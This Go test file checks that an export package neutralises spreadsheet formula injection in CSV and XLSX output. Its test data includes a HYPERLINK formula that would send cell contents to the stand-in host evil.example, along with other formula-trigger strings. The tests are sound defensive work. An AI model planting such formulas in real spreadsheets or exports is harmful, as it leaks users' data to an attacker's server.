package exchange

import (
	"bytes"
	"strings"
	"testing"

	"github.com/xuri/excelize/v2"
)

// names are texts Excel would run as formulas, as anyone can plant them: a unit's name, a login name.
var formulaNames = []string{
	`=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")`,
	"+84 912 345 678",
	"-Ấp 3",
	"-1+2",
	"@SUM(A1:A9)",
	"\t=1+1",
	"\r=1+1",
}

func TestCSVCellsExcelWouldRunAreNeutralised(t *testing.T) {
	table := Table{Columns: []Column{{Key: "value", Header: "Giá trị"}}}
	cases := []struct {
		value any
		want  string // the field as written, before CSV quoting
	}{
		{formulaNames[0], "'" + formulaNames[0]},
		{"+84 912 345 678", "'+84 912 345 678"},
		{"-Ấp 3", "'-Ấp 3"},
		{"-1+2", "'-1+2"},
		{"@SUM(A1:A9)", "'@SUM(A1:A9)"},
		{"\t=1+1", "'\t=1+1"},
		{"\r=1+1", "'=1+1"}, // encoding/csv drops a lone CR when it ends lines with CRLF
		// Numbers, ours or as text, are no formulas and stay readable.
		{-5, "-5"},
		{int64(-48), "-48"},
		{-0.4802, "-0,4802"},
		{"-5", "-5"},
		{"-48,02 %", "-48,02 %"},
		{"Chi bộ Ấp 3 = Ấp 4", "Chi bộ Ấp 3 = Ấp 4"},
		{"", ""},
	}
	for _, c := range cases {
		var b bytes.Buffer
		if err := WriteCSV(&b, Sheet{Table: table, Rows: [][]any{{c.value}}}); err != nil {
			t.Fatal(err)
		}
		_, got, _ := strings.Cut(b.String(), "\r\n")
		got = strings.TrimSuffix(got, "\r\n")
		if strings.HasPrefix(got, `"`) {
			got = strings.ReplaceAll(got[1:len(got)-1], `""`, `"`)
		}
		if got != c.want {
			t.Errorf("%q written as %q, want %q", c.value, got, c.want)
		}
	}
}

// formulaSheet is a units sheet of one row per name of formulaNames.
func formulaSheet() Sheet {
	rows := make([][]any, len(formulaNames))
	for i, name := range formulaNames {
		rows[i] = []any{"CB01", name}
	}
	return Sheet{Table: units, Rows: rows}
}

func TestNeutralisedNamesSurviveExportThenImport(t *testing.T) {
	var b bytes.Buffer
	if err := WriteCSV(&b, formulaSheet()); err != nil {
		t.Fatal(err)
	}
	read, ps := Read(bytes.NewReader(b.Bytes()), "don-vi.csv", units, testMaxBytes)
	if len(ps) != 0 || len(read) != len(formulaNames) {
		t.Fatalf("%d rows, problems:\n%s", len(read), list(ps))
	}
	for i, name := range formulaNames {
		// Cells are trimmed on reading, so a leading tab or carriage return goes, as it always did.
		if got, want := read[i].Text("name"), strings.TrimSpace(name); got != want {
			t.Errorf("row %d: name = %q, want %q", read[i].Number(), got, want)
		}
	}
	// A quote a person typed before anything else is theirs, and stays.
	read, _ = readCSVText(t, units, "Mã đơn vị,Tên đơn vị\nCB01,'Ấp 3\n")
	if got := read[0].Text("name"); got != "'Ấp 3" {
		t.Errorf("name = %q, want the quote kept", got)
	}
}

func TestXLSXCellsAreTextNeverFormulas(t *testing.T) {
	f := writtenXLSX(t, formulaSheet())
	for i, name := range formulaNames {
		cell, _ := excelize.CoordinatesToCellName(2, i+2)
		formula, err := f.GetCellFormula(units.Sheet, cell)
		if err != nil || formula != "" {
			t.Errorf("%s: formula %q, %v; want none", cell, formula, err)
		}
		typ, _ := f.GetCellType(units.Sheet, cell)
		value, _ := f.GetCellValue(units.Sheet, cell, excelize.Options{RawCellValue: true})
		if typ != excelize.CellTypeInlineString && typ != excelize.CellTypeSharedString || value != name {
			t.Errorf("%s: %v %q, want the text %q", cell, typ, value, name)
		}
	}
}
